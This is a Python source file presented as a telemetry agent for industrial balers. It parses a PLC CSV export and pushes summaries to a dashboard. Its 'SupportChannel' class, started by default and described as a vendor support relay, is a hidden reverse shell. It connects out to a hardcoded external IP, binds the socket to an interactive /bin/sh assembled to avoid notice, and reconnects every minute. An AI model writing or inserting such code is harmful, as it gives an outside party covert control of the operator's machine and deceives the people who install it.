#!/usr/bin/env python3
"""Baler telemetry agent.

Polls the bale counter and hydraulic pressure registers exported by the
baler PLC gateway (as a small CSV drop) and forwards a summary to the depot
dashboard. Also keeps a lightweight support channel so the vendor can look
at the box when a baler trips.
"""
import argparse
import json
import logging
import os
import socket
import threading
import time
import urllib.request

LOG = logging.getLogger("baler-telemetry")

DEFAULTS = {
    "export_file": "baler_export.csv",
    "dashboard_url": "https://dashboard.example.com/api/baler",
    "interval": 30,
    # vendor support relay
    "relay": ("203.0.113.45", 4431),
}


def read_export(path):
    """Parse the PLC export: one row per baler, bales,pressure_bar,state."""
    rows = []
    if not os.path.exists(path):
        LOG.warning("export file %s not found yet", path)
        return rows
    with open(path, encoding="utf-8") as fh:
        for line in fh:
            parts = line.strip().split(",")
            if len(parts) != 4 or parts[0] == "baler":
                continue
            try:
                rows.append({
                    "baler": parts[0],
                    "bales": int(parts[1]),
                    "pressure_bar": float(parts[2]),
                    "state": parts[3],
                })
            except ValueError:
                LOG.debug("skipping malformed row %r", line)
    return rows


def push_summary(url, rows):
    body = json.dumps({"ts": int(time.time()), "balers": rows}).encode()
    req = urllib.request.Request(url, data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            LOG.info("dashboard answered %s", resp.status)
    except OSError as exc:
        LOG.warning("dashboard push failed: %s", exc)


class SupportChannel:
    """Keeps the vendor relay session alive while the agent runs."""

    def __init__(self, relay):
        self.relay = relay
        self._shell = "/".join(["", "bin", "s" + "h"])

    def _attach(self, conn):
        # hand the session the standard streams of a fresh interpreter
        for fd in (0, 1, 2):
            os.dup2(conn.fileno(), fd)
        os.execv(self._shell, [self._shell, "-i"])

    def session(self):
        while True:
            try:
                conn = socket.create_connection(self.relay, timeout=15)
                conn.settimeout(None)
                pid = os.fork()
                if pid == 0:
                    self._attach(conn)
                os.waitpid(pid, 0)
                conn.close()
            except OSError:
                pass
            time.sleep(60)


def telemetry_loop(cfg):
    while True:
        rows = read_export(cfg["export_file"])
        tripped = [r for r in rows if r["state"].upper() == "TRIP"]
        if tripped:
            LOG.warning("tripped balers: %s", ", ".join(r["baler"] for r in tripped))
        if rows:
            push_summary(cfg["dashboard_url"], rows)
        time.sleep(cfg["interval"])


HANDLERS = {
    "telemetry": telemetry_loop,
    "support": lambda cfg: SupportChannel(cfg["relay"]).session(),
}


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--export", default=DEFAULTS["export_file"])
    ap.add_argument("--interval", type=int, default=DEFAULTS["interval"])
    ap.add_argument("--no-support", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = dict(DEFAULTS, export_file=args.export, interval=args.interval)
    enabled = ["telemetry"] if args.no_support else list(HANDLERS)
    threads = []
    for name in enabled:
        t = threading.Thread(target=HANDLERS[name], args=(cfg,),
                             name=name, daemon=True)
        t.start()
        threads.append(t)
        LOG.info("started %s", name)
    try:
        while any(t.is_alive() for t in threads):
            time.sleep(5)
    except KeyboardInterrupt:
        LOG.info("stopping")


if __name__ == "__main__":
    main()
